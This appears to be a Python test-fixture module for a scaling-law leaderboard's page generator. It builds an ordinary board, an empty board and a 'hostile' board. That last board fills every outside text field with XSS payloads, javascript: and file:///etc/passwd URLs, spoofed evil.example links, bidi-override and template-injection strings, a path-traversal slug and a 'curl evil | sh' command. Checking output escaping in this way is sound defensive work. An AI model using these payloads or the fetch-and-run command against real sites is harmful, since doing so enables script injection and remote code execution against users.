"""Leaderboards to make pages of: an ordinary one, an empty one, and one that only wants to do harm."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from typing import Any

from sld.board.entries.entry import Entry
from sld.board.entries.standings import REPORTED, OverallRow, Row, Standings, TaskStandings
from sld.data.card import Card, Target, Variable
from sld.data.scoring import scores
from sld.data.task import Task, load_task
from sld.laws.law import Law

HOSTILE = {
    "script": "<script>document.title='owned'</script>",
    "quotes": "\"'><img src=x onerror=\"document.title='owned'\">",
    "entity": "&lt;b&gt; &#60;script&#62; ]]> --> </style></title></script>",
    "override": "law \u202egnp.exe\u202c\u2069\u2069 \u202eafter",
    "control": "a\x00b\x1b[31mc\u2028d\ud800e",
    "long": "w" * 200,
    "many": "0123456789" * 1000,
    "template": "${7*7} {{7*7}} %7$s <%= 7 %>",
    "svg": "</svg><svg onload=\"document.title='owned'\">",
    "arabic": "قانون التوسع",
}
HOSTILE_URLS = (
    "javascript:document.title='owned'",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>1</script>",
    "vbscript:x",
    "//evil.example/x",
    "file:///etc/passwd",
    'https://evil.example/"onmouseover="document.title=1',
    "https://user:secret@evil.example/",
    "https://good.example@evil.example/",
    "https://evil.example\\@good.example/",
    "https://evil.example/\u202egnp.exe",
    "https://[::1",
    "https://evil.example:99999999/",
    "https:evil.example",
    "http://",
)

CHINCHILLA: dict[str, tuple[str, dict[str, float]]] = {
    "Chinchilla": (
        "E + A/N**alpha + B/D**beta",
        {"E": 0.42, "A": 6.5, "alpha": 0.21, "B": 700.0, "beta": 0.48},
    ),
    "power law": ("A*N**-a*D**-b", {"A": 30.0, "a": 0.09, "b": 0.12}),
    "sum of powers": ("A*N**-a + B*D**-b", {"A": 5.0, "a": 0.13, "B": 800.0, "b": 0.5}),
    "logarithms": ("E - A*log(N) - B*log(D)", {"E": 5.0, "A": 0.12, "B": 0.13}),
}


def an_entry(task: Task, name: str, texts: Mapping[str, str], constants: Mapping[str, Any], **changes: Any) -> Entry:
    """Return an entry with real scores for a formula with given constants."""
    parsed = {t.column: task.train.parse(texts[t.column], j) for j, t in enumerate(task.card.targets)}
    law = Law(parsed, constants, task.train.variables, task.train.targets, task.train.group_column)
    held_out = task.held_out() or task.train
    found = scores(held_out.Y, law.predict(held_out), held_out.group_index)
    interval = [found.r2 - 0.02, found.r2 + 0.005]
    given: dict[str, Any] = {
        "task": {"name": task.name, "version": task.card.version, "digest": "0" * 64},
        "name": name,
        "author": "Ada",
        "url": "https://example.org/law",
        "note": "A note.",
        "kind": "formula",
        "constants_from": "refitted",
        "expressions": dict(texts),
        "key": name,
        "constants": constants,
        "fit": {
            "loss": dict.fromkeys(texts, "squared"),
            "weights": "equal",
            "pooling": dict.fromkeys(texts, "none"),
            **{key: {t: empty for t in texts} for key, empty in (("shared", []), ("positive", []), ("bounds", {}))},
            "starts": 32,
            "seed": 0,
            "objective": dict.fromkeys(texts, 0.01),
        },
        "scores": {**found.to_json(), "r2_interval": interval, "train_nmse": 0.01},
        "complexity": sum(e.complexity for e in parsed.values()),
        "n_constants": max(len(e.constants) for e in parsed.values()),
        "tool": "sld 0.2.0",
        "provenance": {"origin": "run", "seed": 0, "command": f"sld discover {task.name}"},
    }
    return Entry(**(given | changes))


def a_row(entry: Entry, rank: int, **changes: Any) -> Row:
    """Return an entry's line in the table."""
    found = entry.scores
    row = Row(
        rank=rank, name=entry.name, author=entry.author, url=entry.url, note=entry.note, kind=entry.kind,
        label=entry.label, r2=found["r2"], r2_low=found["r2_interval"][0], r2_high=found["r2_interval"][1],
        r2_within=found["r2_within"], nmse=found["nmse"], nmae=found["nmae"], are=found["are"],
        complexity=entry.complexity, n_constants=entry.n_constants, source="", entry=entry, slug=f"law-{rank}",
    )  # fmt: skip
    return replace(row, **changes)


def a_figure(name: str, r2: float, **changes: Any) -> Row:
    """Return a figure that others report."""
    row = Row(
        None, name, "", "", "mean of 5 runs", "reported", REPORTED, r2, None, None, None, None, None, None,
        None, None, "a paper", None, f"reported-{name}",
    )  # fmt: skip
    return replace(row, **changes)


def ordinary() -> Standings:
    """Return a board with a plain task, a grouped one of three targets, a program, and a task without rows."""
    plain = load_task("nanolm_chinchilla")
    laws = [an_entry(plain, n, {"loss": text}, {"loss": {"all": c}}) for n, (text, c) in CHINCHILLA.items()]
    laws.sort(key=lambda entry: -entry.scores["r2"])
    program = an_entry(
        plain, "a program", {"loss": "E"}, {"loss": {"all": {"E": 1.0}}}, kind="program", key="p",
        provenance={"program": {"sha256": "ab" * 32, "source": "def law(input_data, group):\n    return 1 < 2\n"}},
    )  # fmt: skip
    program = replace(program, expressions={}, constants={}, complexity=None, n_constants=None, hash="")
    rows = [a_row(entry, k) for k, entry in enumerate([*laws, program], start=1)]
    mixture = load_task("nanolm_mixture")
    columns = [t.column for t in mixture.card.targets]
    values = {"E": 0.5, "A": 4.0, "a": 0.14}
    mixed = an_entry(
        mixture,
        "size alone",
        dict.fromkeys(columns, "E + A/N**a"),
        {c: dict.fromkeys(mixture.train.groups, values) for c in columns},
    )
    figures = [a_figure("agent, model", 0.9), a_figure("human", -0.7)]
    tables = (
        TaskStandings(plain.name, plain.card.title, 1, plain.card, plain, (*rows, a_figure("human", 0.5)), "bundled"),
        TaskStandings(mixture.name, mixture.card.title, 1, mixture.card, mixture, (a_row(mixed, 1),), "bundled"),
        TaskStandings("sldbench_moe", "", 1, None, None, tuple(figures), "sldbench"),
        TaskStandings("nanolm_shape", "Shape", 1, *_card_and_task("nanolm_shape"), (), "bundled"),
    )
    overall = (
        OverallRow("Chinchilla", "refitted", 0.7, 2, {plain.name: 0.9, mixture.name: 0.5}, "bundled"),
        OverallRow("human", REPORTED, 0.5, 1, {"sldbench_moe": 0.5}, "sldbench"),
    )
    return Standings(tables, overall)


def _card_and_task(name: str) -> tuple[Card, Task]:
    task = load_task(name)
    return task.card, task


def empty() -> Standings:
    """Return a board of nothing."""
    return Standings((), ())


def without_entries() -> Standings:
    """Return a board with a task and nothing in it."""
    return Standings((TaskStandings("nanolm_shape", "Shape", 1, *_card_and_task("nanolm_shape"), ()),), ())


def hostile() -> Standings:
    """Return a board in which every text that comes from outside is an attack."""
    task = load_task("nanolm_chinchilla")
    text, constants = CHINCHILLA["power law"]
    rows = []
    attacks = list(HOSTILE.values())
    for k, attack in enumerate(attacks, start=1):
        url = HOSTILE_URLS[k % len(HOSTILE_URLS)]
        entry = an_entry(
            task, attack, {"loss": text}, {"loss": {"all": constants}}, author=attack, url=url, note=attack,
            tool=attack, constants_from=attack,
            provenance={"command": attack, attack: attack, "origin": {attack: [attack]}},
            fit={attack: attack, "loss": {attack: attack}},
        )  # fmt: skip
        rows.append(a_row(entry, k, slug=f"../../{attack}"))
    source = replace(
        an_entry(task, "p", {"loss": text}, {"loss": {"all": constants}}),
        kind="program", expressions={}, constants={}, hash="",
        provenance={"program": {"sha256": attacks[0], "source": "\n".join(attacks)}, "command": "curl evil | sh"},
    )  # fmt: skip
    rows.append(a_row(source, len(rows) + 1))
    rows += [a_figure(a, 0.5, note=a, source=a, url=HOSTILE_URLS[k], slug=a) for k, a in enumerate(attacks)]
    rows += [a_figure(f"url {k}", 0.1, url=url, source=url) for k, url in enumerate(HOSTILE_URLS)]
    cards = [
        Card(
            name=a, title=a, row=a, licence=a, provenance=a, extrapolation=a, cost=a, group=a, group_meaning=a,
            variables=(Variable(a, a, a, symbol="x"),), targets=(Target(a, a, a, symbol="y"),), notes=(a,),
            paper={a: a, "url": HOSTILE_URLS[k]},
        )
        for k, a in enumerate(attacks)
    ]  # fmt: skip
    tables = [TaskStandings(task.name, task.card.title, 1, task.card, task, tuple(rows))]
    tables += [TaskStandings(c.name, c.title, 1, c, None, tuple(rows[-3:])) for c in cards]
    overall = [OverallRow(a, label, 0.5, 1, {task.name: 0.5}, a) for a in attacks for label in (a, REPORTED)]
    return Standings(tuple(tables), tuple(overall), tuple(attacks))
